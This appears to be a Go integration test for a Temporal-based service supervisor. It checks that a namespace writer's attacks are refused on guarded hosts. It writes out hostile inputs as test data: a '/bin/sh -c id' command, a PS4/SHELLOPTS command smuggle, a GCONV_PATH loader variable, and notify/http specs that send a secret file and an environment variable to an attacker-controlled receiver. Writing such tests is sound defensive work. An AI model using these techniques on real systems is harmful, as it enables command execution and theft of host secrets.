@@ -1,0 +1,405 @@
+package integration
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+	enumspb "go.temporal.io/api/enums/v1"
+	"go.temporal.io/sdk/client"
+
+	"github.com/steward-sh/steward/internal/spec"
+	"github.com/steward-sh/steward/workflows"
+)
+
+// The attacker of issue 47: write access to the namespace (the temporal CLI
+// or an SDK client), no policy file, no signing key. The namespace has only
+// guarded hosts: atk-signed (--trusted-keys) and atk-policy (--policy), so
+// whichever worker takes a notification or an http action is guarded, as
+// in a namespace whose operator guards every host.
+const attackNS = "attacks"
+
+// attackLab is the namespace, its two hosts, the operator's key, a
+// receiver the attacker controls and the host's secrets it is after.
+type attackLab struct {
+	t                                 *testing.T
+	c                                 client.Client
+	key                               string
+	dir                               string
+	secretFile, secretValue, envValue string
+	proof                             string // a file only a command the attacker chose would write
+	hook                              *httptest.Server
+	received                          *receiver
+}
+
+// receiver is what the attacker's server got: every request's headers and body.
+type receiver struct {
+	mu   sync.Mutex
+	reqs []string
+}
+
+// on is the lab for subtest t (its checks fail t, not the parent).
+func (l *attackLab) on(t *testing.T) *attackLab {
+	c := *l
+	c.t = t
+	return &c
+}
+
+func newAttackLab(t *testing.T) *attackLab {
+	needServer(t)
+	l := &attackLab{t: t, dir: t.TempDir(), received: &receiver{}}
+	r := temporalCLI(t, "operator", "namespace", "create", "-n", attackNS)
+	require.True(t, r.code == 0 || strings.Contains(r.stderr, "already"), r.stderr)
+	eventually(t, time.Minute, func() (bool, string) {
+		r := temporalCLI(t, "workflow", "list", "-n", attackNS, "--limit", "1")
+		return r.code == 0, r.stderr
+	})
+	l.secretValue = fmt.Sprintf("TOPSECRET-%d", time.Now().UnixNano())
+	l.envValue = fmt.Sprintf("ENVSECRET-%d", time.Now().UnixNano())
+	l.secretFile = filepath.Join(l.dir, "shadow-like-secret")
+	require.NoError(t, os.WriteFile(l.secretFile, []byte(l.secretValue+"\n"), 0o600))
+	l.proof = filepath.Join(l.dir, "pwned")
+	l.hook = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		l.received.mu.Lock()
+		l.received.reqs = append(l.received.reqs, fmt.Sprintf("%s %s %v %s", r.Method, r.URL, r.Header, body))
+		l.received.mu.Unlock()
+	}))
+	t.Cleanup(l.hook.Close)
+
+	l.key = keygen(t)
+	sleep, err := exec.LookPath("sleep")
+	require.NoError(t, err)
+	policy := filepath.Join(l.dir, "policy.yaml")
+	require.NoError(t, os.WriteFile(policy, []byte("commands: ["+sleep+"]\n"), 0o644))
+	// The workers' environment holds a secret of the host's.
+	t.Setenv("STEWARD_ATTACK_SECRET", l.envValue)
+	for host, flags := range map[string][]string{
+		"atk-signed": {"--trusted-keys", l.key + ".pub"},
+		"atk-policy": {"--policy", policy},
+	} {
+		w, err := startWorker(host, append([]string{"--namespace", attackNS, "--host", host}, flags...)...)
+		require.NoError(t, err)
+		t.Cleanup(w.stop)
+	}
+	l.c, err = client.Dial(client.Options{HostPort: address, Namespace: attackNS, Logger: quiet{}})
+	require.NoError(t, err)
+	t.Cleanup(l.c.Close)
+	return l
+}
+
+func (l *attackLab) starter(args ...string) result {
+	l.t.Helper()
+	return starter(l.t, append([]string{"--namespace", attackNS}, args...)...)
+}
+
+func (l *attackLab) status(path string) workflows.Status {
+	l.t.Helper()
+	var st workflows.Status
+	eventually(l.t, 30*time.Second, func() (bool, string) {
+		r := l.starter("status", path, "-o", "json")
+		if r.code != 0 {
+			return false, r.stderr
+		}
+		st = workflows.Status{}
+		return json.Unmarshal([]byte(r.stdout), &st) == nil && st.Stale == "", r.stdout
+	})
+	return st
+}
+
+// signal sends path a raw spec, around the starter and its supervisor.
+func (l *attackLab) signal(path string, u spec.Update) {
+	l.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	require.NoError(l.t, l.c.SignalWorkflow(ctx, path, "", workflows.SignalSpec, u))
+}
+
+// specOf is the spec path's workflow holds (with its signature).
+func (l *attackLab) specOf(path string) spec.Node {
+	l.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	v, err := l.c.QueryWorkflow(ctx, path, "", workflows.QuerySpec)
+	require.NoError(l.t, err)
+	var n spec.Node
+	require.NoError(l.t, v.Get(&n))
+	return n
+}
+
+// history is every event of path's current run, as the server keeps it.
+func (l *attackLab) history(path string) string {
+	l.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	it := l.c.GetWorkflowHistory(ctx, path, "", false, enumspb.HISTORY_EVENT_FILTER_TYPE_ALL_EVENT)
+	var b strings.Builder
+	for it.HasNext() {
+		e, err := it.Next()
+		require.NoError(l.t, err)
+		b.WriteString(e.String())
+		b.WriteByte('\n')
+	}
+	return b.String()
+}
+
+// refusedAsBefore waits until path's host refused a spec newer than
+// before's, and checks the service that ran runs on, untouched.
+func (l *attackLab) refusedAsBefore(path string, before workflows.Status, reason string) {
+	l.t.Helper()
+	var st workflows.Status
+	eventually(l.t, time.Minute, func() (bool, string) {
+		st = l.status(path)
+		return st.LastAction.Status == "refused" && st.Generation > before.Generation, fmt.Sprintf("%+v", st)
+	})
+	require.Equal(l.t, "running", st.State, "%+v", st)
+	require.Contains(l.t, st.Reason, reason)
+	require.Equal(l.t, before.Instance, st.Instance, "the instance that ran is the one that runs")
+	require.True(l.t, alive(pidOf(l.t, st.Instance)))
+}
+
+// noLeak checks that nothing the host holds reached the attacker's
+// receiver or the history of any of paths.
+func (l *attackLab) noLeak(paths ...string) {
+	l.t.Helper()
+	l.received.mu.Lock()
+	got := strings.Join(l.received.reqs, "\n")
+	l.received.mu.Unlock()
+	for _, s := range []string{l.secretValue, l.envValue} {
+		require.NotContains(l.t, got, s, "the attacker's receiver got a secret of the host")
+		for _, p := range paths {
+			require.NotContains(l.t, l.history(p), s, "the history of %s holds a secret of the host", p)
+		}
+	}
+	_, err := os.Stat(l.proof)
+	require.ErrorIs(l.t, err, os.ErrNotExist, "a command the attacker chose ran")
+}
+
+// startRogue starts a workflow by hand, as `temporal workflow start` does.
+func (l *attackLab) startRogue(id string, in workflows.WorkerInput) {
+	l.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	_, err := l.c.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: id, TaskQueue: workflows.TaskQueue}, workflows.WorkerWorkflow, in)
+	require.NoError(l.t, err)
+	l.t.Cleanup(func() { _ = l.c.TerminateWorkflow(context.Background(), id, "", "attack test over") })
+}
+
+// failedWith waits until the hand-started worker at id has failed with
+// reason, having run nothing.
+func (l *attackLab) failedWith(id, reason string) {
+	l.t.Helper()
+	eventually(l.t, time.Minute, func() (bool, string) {
+		st := l.status(id)
+		return st.State == "failed" && strings.Contains(st.Reason, reason) && st.Instance == "", fmt.Sprintf("%+v", st)
+	})
+}
+
+// TestAttacksOfANamespaceWriter runs every attack of issue 47 (and those
+// found on the way) against guarded hosts: each is refused or harmless,
+// and the services the operator runs are untouched.
+func TestAttacksOfANamespaceWriter(t *testing.T) {
+	l := newAttackLab(t)
+	signedTree := func(secs string) string {
+		return writeSpec(t, `
+name: atk
+children:
+  - name: svc
+    kind: process
+    process: {command: sleep, args: ["`+secs+`"], host: atk-signed, startSeconds: 200ms}
+    observe: {interval: 2s}
+`)
+	}
+	r := l.starter("apply", "-f", signedTree("300"), "--sign-key", l.key, "--wait", "--timeout", "2m")
+	t.Cleanup(func() { l.starter("delete", "atk") })
+	require.Equal(t, 0, r.code, r.stdout+r.stderr)
+	first := l.specOf("atk/svc")
+	require.NotEmpty(t, first.Signature)
+	for _, secs := range []string{"301", "302"} {
+		r = l.starter("apply", "-f", signedTree(secs), "--sign-key", l.key, "--wait", "--timeout", "2m")
+		require.Equal(t, 0, r.code, r.stdout+r.stderr)
+	}
+	current := l.specOf("atk/svc")
+	r = l.starter("apply", "-f", writeSpec(t, `
+name: atkp
+children:
+  - name: svc
+    kind: process
+    process: {command: sleep, args: ["300"], host: atk-policy, startSeconds: 200ms}
+    observe: {interval: 2s}
+`), "--wait", "--timeout", "2m")
+	t.Cleanup(func() { l.starter("delete", "atkp") })
+	require.Equal(t, 0, r.code, r.stdout+r.stderr)
+	r = l.starter("apply", "-f", writeSpec(t, `
+name: atkf
+hosts: [atk-signed]
+children:
+  - name: web
+    kind: process
+    instances: 2
+    process: {command: sleep, args: ["{{ add 300 .Instance }}"], startSeconds: 200ms}
+    observe: {interval: 2s}
+`), "--sign-key", l.key, "--wait", "--timeout", "2m")
+	t.Cleanup(func() { l.starter("delete", "atkf") })
+	require.Equal(t, 0, r.code, r.stdout+r.stderr)
+
+	shell := map[string]any{"command": "/bin/sh", "args": []string{"-c", "id > " + l.proof}}
+	leakyNotify := &spec.Notify{Webhook: spec.Value{Literal: l.hook.URL + "/hook"}, Headers: map[string]spec.Value{
+		"X-Leak": spec.FileRef(l.secretFile), "X-Env": spec.EnvRef("STEWARD_ATTACK_SECRET")}}
+	// notifyRefused waits until path's history shows its notification
+	// refused by whichever guarded host took it.
+	notifyRefused := func(t *testing.T, path string) {
+		l := l.on(t)
+		eventually(t, time.Minute, func() (bool, string) {
+			h := l.history(path)
+			return strings.Contains(h, "resolves none for a notification") || strings.Contains(h, "is not allowed (the policy's"),
+				"no refused notification in the history of " + path
+		})
+	}
+	withPolicyHost := func(p map[string]any) map[string]any {
+		out := map[string]any{"host": "atk-policy", "startSeconds": "200ms"}
+		for k, v := range p {
+			out[k] = v
+		}
+		return out
+	}
+	sleepOnPolicyHost := func(extra map[string]any) spec.Node {
+		p := withPolicyHost(map[string]any{"command": "sleep", "args": []string{"299"}})
+		for k, v := range extra {
+			p[k] = v
+		}
+		return spec.Node{Name: "svc", Kind: spec.KindProcess, Process: p}
+	}
+
+	cases := []struct {
+		name string
+		run  func(t *testing.T, l *attackLab)
+	}{
+		{"notify reads a file and the worker's variable for the attacker (signed host)", func(t *testing.T, l *attackLab) {
+			before := l.status("atk/svc")
+			shellSpec := spec.Node{Name: "svc", Kind: spec.KindProcess, Process: withSignedHost(shell), Notify: leakyNotify}
+			l.signal("atk/svc", spec.Update{Spec: shellSpec})
+			l.refusedAsBefore("atk/svc", before, "is not signed")
+			notifyRefused(t, "atk/svc")
+			l.noLeak("atk/svc")
+		}},
+		{"notify reads a file and the worker's variable for the attacker (policy host)", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"args": []string{"298"}})})
+			eventually(t, time.Minute, func() (bool, string) {
+				st := l.status("atkp/svc")
+				return st.Generation > before.Generation && st.State == "running", fmt.Sprintf("%+v", st)
+			})
+			n := sleepOnPolicyHost(nil)
+			n.Process = withPolicyHost(shell)
+			n.Notify = leakyNotify
+			mid := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: n})
+			l.refusedAsBefore("atkp/svc", mid, "command /bin/sh")
+			notifyRefused(t, "atkp/svc")
+			l.noLeak("atkp/svc")
+		}},
+		{"notify's webhook read from a file is quoted in the failure", func(t *testing.T, l *attackLab) {
+			before := l.status("atk/svc")
+			n := spec.Node{Name: "svc", Kind: spec.KindProcess, Process: withSignedHost(shell),
+				Notify: &spec.Notify{Webhook: spec.FileRef(l.secretFile)}}
+			l.signal("atk/svc", spec.Update{Spec: n})
+			l.refusedAsBefore("atk/svc", before, "is not signed")
+			notifyRefused(t, "atk/svc")
+			l.noLeak("atk/svc")
+		}},
+		{"a signed spec run by a workflow started by hand (rogue-1)", func(t *testing.T, l *attackLab) {
+			l.startRogue("rogue-1", workflows.WorkerInput{Path: "atk/svc", Spec: current, Generation: 1, Version: workflows.WorkerVersion})
+			l.failedWith("rogue-1", "comes from workflow rogue-1")
+			l.startRogue("rogue-2", workflows.WorkerInput{Path: "rogue-2", Spec: current, Generation: 1, Version: workflows.WorkerVersion})
+			l.failedWith("rogue-2", "does not match its signature")
+			require.Equal(t, "running", l.status("atk/svc").State)
+		}},
+		{"a fleet instance beyond its signed count (web-57)", func(t *testing.T, l *attackLab) {
+			tmpl := l.specOf("atkf/web-1")
+			require.NotNil(t, tmpl.Instance)
+			n57 := 57
+			tmpl.Instance = &n57
+			l.startRogue("atkf/web-57", workflows.WorkerInput{Path: "atkf/web-57", Spec: tmpl, Generation: 1, Version: workflows.WorkerVersion})
+			l.failedWith("atkf/web-57", "beyond the 2 instances its template is signed as")
+		}},
+		{"an older signed spec replayed with generation 1000000000", func(t *testing.T, l *attackLab) {
+			before := l.status("atk/svc")
+			l.signal("atk/svc", spec.Update{Generation: 1_000_000_000, Spec: first})
+			l.refusedAsBefore("atk/svc", before, "an old signed spec is not run again")
+			cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pidOf(t, before.Instance)))
+			require.NoError(t, err)
+			require.Equal(t, "sleep\x00302\x00", string(cmdline), "the newest signed command runs")
+		}},
+		{"SHELLOPTS=xtrace and PS4 run a command inside an allowed program", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"env": map[string]any{"SHELLOPTS": "xtrace", "PS4": "$(id > " + l.proof + ")"}})})
+			l.refusedAsBefore("atkp/svc", before, "env PS4 is not allowed (it makes an allowed program load other code)")
+			l.noLeak()
+		}},
+		{"an interpreter's loader variable (GCONV_PATH)", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"env": map[string]any{"GCONV_PATH": l.dir}})})
+			l.refusedAsBefore("atkp/svc", before, "env GCONV_PATH is not allowed")
+		}},
+		{"envFile reads any file into the service", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"envFile": l.secretFile})})
+			l.refusedAsBefore("atkp/svc", before, "process.envFile file "+l.secretFile+" is not allowed (the policy's secrets do not list it)")
+			l.noLeak("atkp/svc")
+		}},
+		{"env {file: ...} reads any file into the service", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"env": map[string]any{"X": map[string]any{"file": l.secretFile}}})})
+			l.refusedAsBefore("atkp/svc", before, "process.env.X file "+l.secretFile+" is not allowed")
+			l.noLeak("atkp/svc")
+		}},
+		{"inheritEnv hands the service a variable of the worker's", func(t *testing.T, l *attackLab) {
+			before := l.status("atkp/svc")
+			l.signal("atkp/svc", spec.Update{Spec: sleepOnPolicyHost(map[string]any{"inheritEnv": []string{"STEWARD_ATTACK_SECRET"}})})
+			l.refusedAsBefore("atkp/svc", before, "process.inheritEnv STEWARD_ATTACK_SECRET is not allowed")
+		}},
+		{"an http worker sends a file to the attacker's URL", func(t *testing.T, l *attackLab) {
+			evil := spec.Node{Name: "evil-http", Kind: spec.KindHTTP, HTTP: map[string]any{
+				"health": map[string]any{"url": l.hook.URL + "/health", "headers": map[string]any{"X-Leak": map[string]any{"file": l.secretFile}}},
+				"start":  map[string]any{"url": l.hook.URL + "/start", "headers": map[string]any{"X-Env": map[string]any{"env": "STEWARD_ATTACK_SECRET"}}},
+			}}
+			l.startRogue("evil-http", workflows.WorkerInput{Path: "evil-http", Spec: evil, Generation: 1, Version: workflows.WorkerVersion})
+			eventually(t, time.Minute, func() (bool, string) {
+				st := l.status("evil-http")
+				return st.State == "failed" && strings.Contains(st.Reason, "refused"), fmt.Sprintf("%+v", st)
+			})
+			l.noLeak("evil-http")
+		}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			c.run(t, l.on(t))
+		})
+	}
+	t.Logf("attack_cases=%d", len(cases))
+	// The operator's services ran through it all.
+	for _, p := range []string{"atk/svc", "atkp/svc", "atkf/web-0", "atkf/web-1"} {
+		require.Equal(t, "running", l.status(p).State, p)
+	}
+}
+
+// withSignedHost is a process block on the signed host.
+func withSignedHost(p map[string]any) map[string]any {
+	out := map[string]any{"host": "atk-signed", "startSeconds": "200ms"}
+	for k, v := range p {
+		out[k] = v
+	}
+	return out
+}
